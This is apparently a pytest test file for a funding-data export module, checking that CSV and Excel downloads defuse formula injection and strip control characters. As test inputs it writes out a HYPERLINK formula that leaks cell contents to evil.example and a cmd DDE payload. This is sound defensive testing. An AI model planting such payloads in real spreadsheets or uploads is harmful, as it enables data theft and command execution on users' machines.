"""Downloads: CSV and Excel that are safe to open, with the filters and caveats written in."""

import io

import openpyxl
import pandas as pd
import pytest

from usascp.export import csv_bytes, excel_bytes, neutralise_formulas


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://evil.example","click")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_formula_like_text_is_made_inert(evil):
    table = pd.DataFrame({"title": [evil, "Water Smart Engagements"], "amount_usd": [-5.0, 98750.0]})
    safe = neutralise_formulas(table)
    assert safe.at[0, "title"] == "'" + evil
    assert safe.at[1, "title"] == "Water Smart Engagements"
    assert safe.at[0, "amount_usd"] == -5.0  # numbers are not formulas


def test_csv_has_a_byte_order_mark_and_inert_cells():
    data = csv_bytes(pd.DataFrame({"title": ["=1+1", "Đà Nẵng"]}))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "'=1+1" in text and "Đà Nẵng" in text


def test_excel_workbook_opens_with_notes_and_inert_cells():
    table = pd.DataFrame({"project": ["=cmd|' /C calc'!A0", "Hospital digitization"], "amount_usd": [None, 98750.0]})
    workbook = openpyxl.load_workbook(io.BytesIO(excel_bytes({"Funding rows": table}, ["Filters: Cambodia"])))
    assert workbook.sheetnames == ["About this file", "Funding rows"]
    assert workbook["About this file"]["A2"].value == "Filters: Cambodia"
    rows = workbook["Funding rows"]
    assert rows["A2"].value == "'=cmd|' /C calc'!A0" and rows["A2"].data_type == "s"
    assert rows["B3"].value == 98750
    assert rows.freeze_panes == "A2"


HOSPITAL = "Smart Green Hospital Network: leveraging technology to upgrade Cambodian healthcare"
MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'


def test_a_malicious_project_title_leaves_the_funding_downloads_inert(data_copy):
    """End to end: a title planted in projects.csv passes validation, but is never run as a formula once exported."""
    from usascp import aggregate
    from usascp.load import load_dataset

    data_copy.replace("projects", HOSPITAL, MALICIOUS.replace('"', '""').join('""'))
    dataset = load_dataset(data_copy.folder)
    assert MALICIOUS in set(dataset.projects["title"])  # kept as the text it is
    rows = aggregate.funding_rows(dataset, aggregate.select_projects(dataset))

    csv_rows = pd.read_csv(io.BytesIO(csv_bytes(rows)), encoding="utf-8-sig", dtype=str)
    planted = csv_rows[csv_rows["project_id"] == "khm_hospital_digitization"]
    assert planted["project"].tolist() == ["'" + MALICIOUS]
    assert planted["amount_usd"].astype(float).tolist() == [98750.0]
    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in csv_rows.to_numpy().ravel() if isinstance(cell, str))

    workbook = openpyxl.load_workbook(io.BytesIO(excel_bytes({"Funding rows": rows}, ["Filters: all"])))
    sheet = workbook["Funding rows"]
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("project")] for row in sheet.iter_rows(min_row=2)]
    evil = [cell for cell in cells if cell.value and "HYPERLINK" in cell.value]
    assert [cell.value for cell in evil] == ["'" + MALICIOUS]
    assert evil[0].data_type == "s"  # a string cell, not a formula ("f")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_control_characters_never_stop_an_excel_download():
    """Validation removes them from what it reads; a table made another way must still give a workbook."""
    table = pd.DataFrame({"project\x02": ["Clinic\x01 records\x07", "Water\x0bSmart"], "amount_usd": [1.0, 2.0]})
    workbook = openpyxl.load_workbook(io.BytesIO(excel_bytes({"Funding rows": table}, ["Filters:\x1b all"])))
    assert workbook["About this file"]["A2"].value == "Filters: all"
    rows = workbook["Funding rows"]
    assert [rows["A1"].value, rows["A2"].value, rows["A3"].value] == ["project", "Clinic records", "Water\nSmart"]


def test_the_template_of_a_dataset_with_control_characters_opens(dataset):
    import dataclasses

    from usascp.importers.template import template_workbook

    projects = dataset.projects.copy()
    projects.loc[projects["project_id"] == "khm_hospital_digitization", "title"] = "Hospital\x01 records\x07"
    workbook = openpyxl.load_workbook(io.BytesIO(template_workbook(dataclasses.replace(dataset, projects=projects))))
    assert "Hospital records" in [cell.value for cell in workbook["projects"]["B"]]


def test_the_template_and_the_data_zip_carry_the_transactions_and_read_back(dataset):
    import zipfile

    import openpyxl

    from usascp.importers.tables import UploadedFile, dataset_from_upload, read_upload
    from usascp.importers.template import column_guide, template_workbook, template_zip

    workbook = openpyxl.load_workbook(io.BytesIO(template_workbook(dataset)))
    sheet = workbook["transactions"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(dataset.transactions.columns)
    assert [row[:6] for row in rows[1:]] == [
        ("T001", "stic_asu", "disbursement", 100000, "USD", "2023-09"),
        ("T002", "stic_asu", "disbursement", 100000, "USD", "2024-07"),
    ]
    listed = [cell.value for cell in next(column for column in workbook["lists"].columns if column[0].value == "transactions.transaction_type")]
    assert listed[1:5] == ["commitment", "obligation", "disbursement", "expenditure"]
    guide = {(table, column): meaning for table, column, _, _, meaning in column_guide()}
    assert "negative for a de-obligation" in guide[("transactions", "amount")]

    archive = zipfile.ZipFile(io.BytesIO(template_zip(dataset)))
    assert "transactions.csv" in archive.namelist()
    again = dataset_from_upload(read_upload([UploadedFile("usascp-data.zip", template_zip(dataset))]), None, beside_base=False)
    assert again.transactions["amount"].tolist() == [100000, 100000]
